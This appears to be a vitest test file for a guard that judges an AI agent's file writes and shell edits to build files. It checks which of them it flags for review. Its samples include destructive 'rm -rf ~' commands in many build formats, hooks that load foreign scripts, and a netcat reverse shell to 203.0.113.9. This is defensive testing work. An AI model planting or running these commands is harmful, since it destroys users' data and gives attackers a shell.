import { describe, expect, it } from 'vitest'
import { judgeCall } from '../../../testing/src/judge-command.ts'

/** Build files and settings in languages without a reader of their own. Nothing here is executed. */

const decide = async (path: string, content: string): Promise<string> =>
  (await judgeCall('Write', { file_path: path, content })).decision

const exec = (type: string, body: string): string => `${type} {\n  ${body}\n}\n`

describe('a build file asks about what it would run', () => {
  it.each<readonly [string, string, string]>([
    [
      'build.gradle',
      "task x(type: Exec) { commandLine 'rm', '-rf', '/home/test' }",
      "task x(type: Exec) { commandLine 'rm', '-rf', 'build' }",
    ],
    ['build.gradle', 'new File(System.getProperty("user.home")).deleteDir()', 'new File("build").deleteDir()'],
    ['build.gradle', 'delete "${System.getProperty(\'user.home\')}/Documents"', 'delete "${buildDir}/x"'],
    ['a.gradle.kts', 'exec { commandLine("sh", "-c", "rm -rf ~") }', 'println("rm -rf ~")'],
    [
      'build.rs',
      'Command::new("sh").arg("-c").arg("rm -rf ~").status();',
      'Command::new("git").arg("describe").output();',
    ],
    ['build.rs', 'std::fs::remove_dir_all(std::env::var("HOME").unwrap());', 'std::fs::remove_dir_all("gen");'],
    ['CMakeLists.txt', 'execute_process(COMMAND rm -rf $ENV{HOME})', 'execute_process(COMMAND git rev-parse HEAD)'],
    ['x.cmake', 'add_custom_command(TARGET a COMMAND rm -rf /home/test)', '# COMMAND rm -rf /home/test'],
    ['meson.build', "run_command('rm', '-rf', '/home/test')", "run_command('rm', '-rf', 'out')"],
    ['binding.gyp', '{"a": "<!(rm -rf ~)"}', '{"a": "<!(node -p 1)"}'],
    ['mix.exs', 'System.cmd("rm", ["-rf", "/home/test"])', 'System.cmd("rm", ["-rf", "_build"])'],
    ['shell.nix', "{ shellHook = ''rm -rf ~''; }", "{ shellHook = ''export A=1''; }"],
    [
      'pkg/a.go',
      'package a\n//go:generate sh -c "rm -rf ~"\n',
      'package a\n//go:generate stringer -type=A\n// rm -rf ~\n',
    ],
    [
      'a.tf',
      exec('provisioner "local-exec"', 'command = "rm -rf ~"'),
      exec('provisioner "remote-exec"', 'inline = ["rm -rf ~"]'),
    ],
    [
      'a.tf',
      exec('provisioner "local-exec"', 'command = <<-EOT\n    rm -rf ~\n  EOT'),
      'user_data = <<EOF\nrm -rf /root\nEOF\n',
    ],
    [
      'a.tf',
      exec('data "external" "e"', 'program = [\n "sh", "-c", "rm -rf ~"]'),
      exec('data "external" "e"', 'program = ["jq", "."]'),
    ],
    [
      'pom.xml',
      '<configuration><executable>rm</executable><arguments><argument>-rf</argument><argument>/home/test</argument></arguments></configuration>',
      '<configuration><executable>npm</executable><arguments><argument>ci</argument></arguments></configuration>',
    ],
    [
      'build.xml',
      '<exec executable="sh"><arg value="-c"/><arg value="echo a > b; rm -rf ~"/></exec>',
      '<!-- <exec executable="rm"><arg line="-rf /home/test"/></exec> -->',
    ],
    ['build.xml', '<delete dir="${user.home}"/>', '<delete dir="${build.dir}"/>'],
    ['a.csproj', '<Target><Exec Command="rm -rf ~" /></Target>', '<Target><Exec Command="npm run build" /></Target>'],
    [
      'vite.config.ts',
      "import { execSync } from 'node:child_process'\nexecSync('rm -rf ~')",
      "export default { base: '/' }",
    ],
    ['.pnpmfile.cjs', "require('child_process').execSync('rm -rf ~')", 'module.exports = {}'],
    ['sitecustomize.py', "import os\nos.system('rm -rf ~')", 'import sys'],
    [
      'dodo.py',
      "def task_x():\n    return {'actions': ['rm -rf ~']}",
      "def task_x():\n    return {'actions': ['rm -rf out']}",
    ],
    ['noxfile.py', "session.run('rm', '-rf', '/home/test')", "session.run('rm', '-rf', 'dist')"],
    ['Tiltfile', "local('rm -rf ~')", "local('git describe')"],
    ['Earthfile', 'x:\n  LOCALLY\n  RUN rm -rf ~\n', 'x:\n  FROM a\n  RUN rm -rf ~\n'],
    ['tox.ini', '[testenv]\ncommands = rm -rf {env:HOME}\n', '[testenv]\ncommands = rm -rf {envtmpdir}\n'],
    ['.npmrc', 'script-shell=./x.sh\n', 'script-shell=/bin/bash\n'],
    ['.npmrc', 'node-options=--require ./x.js\n', 'node-options=--max-old-space-size=4096\n'],
    ['.yarnrc.yml', 'yarnPath: /tmp/x.cjs\n', 'yarnPath: .yarn/releases/yarn-4.5.0.cjs\n'],
    ['.gitmodules', '[submodule "a"]\n\tupdate = !rm -rf ~\n', '[submodule "a"]\n\tupdate = rebase\n'],
    [
      '.github/workflows/a.yml',
      'jobs:\n  a:\n    runs-on: [self-hosted, x]\n    steps:\n      - run: rm -rf ~\n',
      'jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: rm -rf ~\n',
    ],
    [
      'cloudbuild.yaml',
      "steps:\n  - name: x\n    args: ['-c', 'nc -e /bin/sh 203.0.113.9 1']\n",
      "steps:\n  - name: x\n    args: ['-c', 'npm ci']\n",
    ],
    [
      'skaffold.yaml',
      'build:\n  artifacts:\n    - custom: {buildCommand: rm -rf ~}\n',
      'build:\n  artifacts:\n    - custom: {buildCommand: make image}\n',
    ],
    [
      'justfile',
      'x:\n  #!/usr/bin/env python3\n  import shutil\n  shutil.rmtree("/home/test")\n',
      'x:\n  #!/usr/bin/env python3\n  print("/home/test")\n',
    ],
    ['.cargo/config.toml', 'runner = ["sh", "-c", "rm -rf ~"]\n', 'runner = ["qemu-arm", "-L", "/usr"]\n'],
    ['deploy/crontab', '* * * * * root rm -rf /home/test\n', '* * * * * root /srv/x.sh\n'],
    [
      '.vscode/settings.json',
      '{"p": {"path": "bash", "args": ["-c", "rm -rf ~"]}}',
      '{"p": {"path": "bash", "args": ["-l"]}}',
    ],
  ])('%s: %s', async (path, harmful, harmless) => {
    expect(await decide(path, harmful)).toBe('ask')
    expect(await decide(path, harmless)).toBe('pass')
  })
})

describe('a shell command that edits such a file asks about what it puts in', () => {
  it.each<readonly [string, 'ask' | 'pass']>([
    [`jq '.scripts.postinstall = "rm -rf ~"' package.json > p && mv p package.json`, 'ask'],
    [`jq '.scripts.test = "vitest"' package.json > p && mv p package.json`, 'pass'],
    [`sed -i 's/"test": "jest"/"test": "rm -rf ~"/' package.json`, 'ask'],
    [`sed -i 's/"test": "jest"/"test": "vitest"/' package.json`, 'pass'],
    [`yq -i '.a.script = "nc -e /bin/sh 203.0.113.9 1"' .gitlab-ci.yml`, 'ask'],
    [`yq -i '.a.script = "npm ci"' .gitlab-ci.yml`, 'pass'],
    [`jq '.scripts += {"postinstall": "rm -rf ~"}' package.json | sponge package.json`, 'ask'],
    [`node -e "p.scripts.postinstall='rm -rf ~';require('fs').writeFileSync('package.json',JSON.stringify(p))"`, 'ask'],
    [`node -e "p.version='1.2.3';require('fs').writeFileSync('package.json',JSON.stringify(p))"`, 'pass'],
    [`sed -i '$ a rm -rf ~' .husky/pre-commit`, 'ask'],
    [`sed -i 's/18/20/' .github/workflows/ci.yml`, 'pass'],
  ])('%s', async (command, expected) => expect((await judgeCall('Bash', { command })).decision).toBe(expected))
})

describe('bad input', () => {
  it.each<readonly [string, string, string, 'ask' | 'pass']>([
    ['an unclosed tag, often', 'pom.xml', '<exec executable="'.repeat(50_000), 'pass'],
    ['data without end', 'build.xml', '<![CDATA['.repeat(100_000), 'pass'],
    ['comments without end', 'build.xml', '<!--'.repeat(200_000), 'pass'],
    ['blocks without end', 'a.tf', 'provisioner "local-exec" {\n'.repeat(30_000), 'pass'],
    ['texts without end', 'a.tf', `provisioner "local-exec" {\n${'command = <<A\n'.repeat(50_000)}`, 'pass'],
    ['quotes', 'build.gradle', `"'`.repeat(400_000), 'pass'],
    ['programs', 'build.gradle', `'rm' `.repeat(100_000), 'pass'],
    [
      'a command behind half a megabyte',
      'build.gradle',
      `${'a = 1\n'.repeat(80_000)}exec { commandLine("rm", "-rf", "/home/test") }`,
      'ask',
    ],
    ['a source of ten megabytes', 'a.go', 'x'.repeat(10 << 20), 'pass'],
    ['a build file of ten megabytes', 'build.gradle', 'x\n'.repeat(5 << 20), 'ask'],
    ['bytes', 'a.tf', '\0\u0001\uFFFD{"'.repeat(10_000), 'pass'],
  ])('%s', async (_, path, content, expected) => expect(await decide(path, content)).toBe(expected))
})
